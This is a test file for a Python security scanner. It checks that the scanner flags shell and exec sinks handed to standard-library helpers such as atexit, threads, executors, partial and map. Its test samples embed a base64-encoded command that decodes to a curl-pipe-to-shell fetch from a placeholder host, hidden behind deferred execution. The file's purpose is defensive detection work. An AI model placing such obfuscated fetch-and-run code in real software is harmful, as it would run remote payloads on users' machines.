"""Calls handed to the standard library (caplet._scan._deferred_calls): a sink passed as a
callable with its arguments is checked as the call the library makes (branch blind13: the
blind samples ``b13-ds-atexit-register-system``, ``-thread-target-popen``,
``-executor-submit-exec`` passed unflagged), in both modes, prefilter or not; a benign
callable handed over the same way stays clean."""

from __future__ import annotations

import ast
import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._deferred_calls import deferred_calls
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package

PAYLOAD = 'base64.b64decode("Y3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaA==").decode()'


def threats(source: str, mode: ScanMode) -> set[str]:
    """The threat rules' DANGER findings (capability findings aside: plugin mode reports
    every undeclared capability as danger)."""
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=mode)
    return {
        f.rule_id
        for f in findings
        if f.severity is Severity.DANGER and f.rule_id.startswith("CPL-THR")
    }


HANDED_OVER = [
    f"""
    import atexit, base64, os
    atexit.register(os.system, {PAYLOAD})
    """,
    f"""
    import base64, subprocess, threading
    cmd = {PAYLOAD}
    threading.Thread(target=subprocess.call, args=(cmd,), kwargs={{"shell": True}}).start()
    """,
    f"""
    import base64, os, threading
    threading.Timer(60, os.system, [{PAYLOAD}]).start()
    """,
    f"""
    import base64
    from concurrent.futures import ThreadPoolExecutor
    ThreadPoolExecutor(1).submit(exec, {PAYLOAD})
    """,
    f"""
    import asyncio, base64, os
    loop = asyncio.new_event_loop()
    loop.call_later(5, os.system, {PAYLOAD})
    """,
    f"""
    import base64, os
    list(map(os.system, [{PAYLOAD}]))
    """,
    f"""
    import base64, functools, subprocess
    run = functools.partial(subprocess.run, shell=True)
    run({PAYLOAD})
    """,
    """
    import base64, functools, subprocess
    cmds = ["Y3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaA=="]
    run = functools.partial(subprocess.run, shell=True)
    list(map(run, (base64.b64decode(c).decode() for c in cmds)))
    """,
    f"""
    import base64, multiprocessing, os
    def main():
        multiprocessing.Process(target=os.system, args=({PAYLOAD},)).start()
    """,
]


@pytest.mark.parametrize("source", HANDED_OVER)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_decoded_command_handed_to_the_library_is_run(source: str, mode: ScanMode) -> None:
    assert "CPL-THR-001" in threats(source, mode)


@pytest.mark.parametrize("source", HANDED_OVER)
def test_the_prefilter_keeps_every_hand_over(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-001")


@pytest.mark.parametrize(
    "source",
    [
        # the same hand-overs of literal commands and of the file's own functions
        """
        import atexit, os, shutil, subprocess, threading, functools, tempfile
        from concurrent.futures import ThreadPoolExecutor
        tmp = tempfile.mkdtemp()
        atexit.register(shutil.rmtree, tmp, ignore_errors=True)
        threading.Thread(target=subprocess.run, args=(["git", "status"],)).start()
        def fetch(url):
            return url
        ThreadPoolExecutor(4).submit(fetch, "https://pypi.org/simple/")
        list(map(os.path.exists, ["a", "b"]))
        build = functools.partial(subprocess.run, check=True)
        build(["make", "-j4"])
        """,
        # a decoded value handed to a callable that is no sink
        f"""
        import atexit, base64, logging
        atexit.register(logging.info, {PAYLOAD})
        """,
    ],
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_benign_hand_over_is_clean(source: str, mode: ScanMode) -> None:
    assert threats(source, mode) == set()


def _calls(source: str) -> list[str]:
    tree = ast.parse(textwrap.dedent(source))
    call = next(n for n in ast.walk(tree) if isinstance(n, ast.Call))
    assigned: dict[str, list[ast.AST]] = {}
    names = {
        "t": "threading.Thread",
        "reg": "atexit.register",
        "partial": "functools.partial",
        "map": "builtins.map",
    }

    def resolve(node: ast.expr) -> tuple[str, ...]:
        return (names[node.id],) if isinstance(node, ast.Name) and node.id in names else ()

    made = deferred_calls(call, resolve(call.func), lambda n: assigned.get(n, []), resolve)
    return [ast.unparse(m) for m in made]


def test_a_hand_over_is_spelled_as_the_call_it_makes() -> None:
    assert _calls("t(None, f, 'n', (1, 2), {'k': 3})") == ["f(1, 2, k=3)"]
    assert _calls("t(target=f, args=[x])") == ["f(x)"]
    assert _calls("reg(f, a, b=1)") == ["f(a, b=1)"]
    assert _calls("loop.call_later(5, f, a)") == ["f(a)"]
    assert _calls("partial(f, a, k=1)(b)") == ["f(a, b, k=1)"]
    assert _calls("map(f, [a, b], (c, d))") == ["f(a, c)", "f(b, d)"]
    assert _calls("map(f, (g(x) for x in y))") == ["f(g(x))"]


def test_a_hand_over_whose_arguments_are_unknown_is_not_spelled() -> None:
    # the arguments' count is not known: no call is guessed
    assert _calls("t(target=f, args=xs)") == []
    assert _calls("reg(*handlers)") == []
    assert _calls("map(f, items)") == []
